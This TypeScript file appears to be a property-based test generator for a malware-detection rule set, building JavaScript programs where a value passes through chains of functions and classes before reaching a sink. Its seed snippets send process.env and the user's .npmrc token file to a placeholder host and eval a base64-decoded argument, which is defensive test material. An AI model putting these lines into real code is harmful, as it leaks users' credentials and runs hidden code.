import fc from 'fast-check';

/** A program that does something that a rule finds, in the forms in which values come from one function to another. */
export interface SpreadFlow {
  /** Whole statements, which may stand in any order. */
  pieces: string[];
  /** The statement that sets it off, after all pieces. */
  start: string;
  /** Functions and methods that the flow goes through, as they are called. */
  calls: string[];
  /** The finding, with its tier. */
  rule: string;
}

/** A value that is taken, what is done with it, and the finding. */
const ends: { value: string; sink: (value: string) => string; rule: string }[] = [
  {
    value: 'JSON.stringify(process.env)',
    sink: (value) => `require('https').request({ host: 'x.invalid' }).end(${value});`,
    rule: 'malware.credential-theft review',
  },
  {
    value: "require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')",
    sink: (value) => `fetch('https://x.invalid', { method: 'POST', body: ${value} });`,
    rule: 'malware.credential-theft review',
  },
  {
    value: "Buffer.from(process.argv[2], 'base64').toString()",
    sink: (value) => `eval(${value});`,
    rule: 'malware.eval-decoded review',
  },
];

interface Flow extends Omit<SpreadFlow, 'start' | 'rule'> {
  /** An expression. */
  value: string;
  /** A statement that takes one. */
  sink: (value: string) => string;
}
/** One function more between what gives a value and what takes it. */
type Hop = (flow: Flow, at: number) => Flow;

const hops: Record<string, Hop> = {
  result: ({ pieces, calls, value, sink }, at) => ({
    pieces: [...pieces, `function give${at}(a) { return ${value}; }`],
    calls: [...calls, `give${at}`],
    value: `give${at}()`,
    sink,
  }),
  argument: ({ pieces, calls, value, sink }, at) => ({
    pieces: [...pieces, `function take${at}(a) { ${sink('a')} }`],
    calls: [...calls, `take${at}`],
    value,
    sink: (given) => `take${at}(${given});`,
  }),
  method: ({ pieces, calls, value, sink }, at) => ({
    pieces: [...pieces, `class Giver${at} { read${at}(a) { return ${value}; } }`],
    calls: [...calls, `new Giver${at}().read${at}`],
    value: `new Giver${at}().read${at}()`,
    sink,
  }),
  methodArgument: ({ pieces, calls, value, sink }, at) => ({
    pieces: [...pieces, `const taker${at} = { send${at}(a) { ${sink('a')} } };`],
    calls: [...calls, `taker${at}.send${at}`],
    value,
    sink: (given) => `taker${at}.send${at}(${given});`,
  }),
  field: ({ pieces, calls, value, sink }, at) => ({
    pieces: [
      ...pieces,
      `class Holder${at} { constructor() { this.kept${at} = ${value}; } get${at}() { return this.kept${at}; } }`,
    ],
    calls: [...calls, `new Holder${at}().get${at}`],
    value: `new Holder${at}().get${at}()`,
    sink,
  }),
  callback: ({ pieces, calls, value, sink }, at) => ({
    pieces: [...pieces, `function each${at}(next) { next(${value}); }`],
    calls,
    value: `each${at}`,
    sink: (given) => (given === `each${at}` ? `each${at}((b) => { ${sink('b')} });` : sink(given)),
  }),
  alias: ({ pieces, calls, value, sink }, at) => ({
    pieces: [...pieces, `const alias${at} = () => ${value};`, `const other${at} = alias${at};`],
    calls: [...calls, `other${at}`],
    value: `other${at}()`,
    sink,
  }),
};

/** Flows through one to six functions. */
export const spreadFlows: fc.Arbitrary<SpreadFlow> = fc
  .tuple(
    fc.constantFrom(...ends),
    fc.array(fc.constantFrom(...Object.values(hops)), { minLength: 1, maxLength: 6 }),
  )
  .map(([{ value, sink, rule }, chosen]) => {
    const flow = chosen.reduce<Flow>((before, hop, at) => hop(before, at), {
      pieces: [],
      calls: [],
      value,
      sink,
    });
    return { pieces: flow.pieces, calls: flow.calls, start: flow.sink(flow.value), rule };
  });
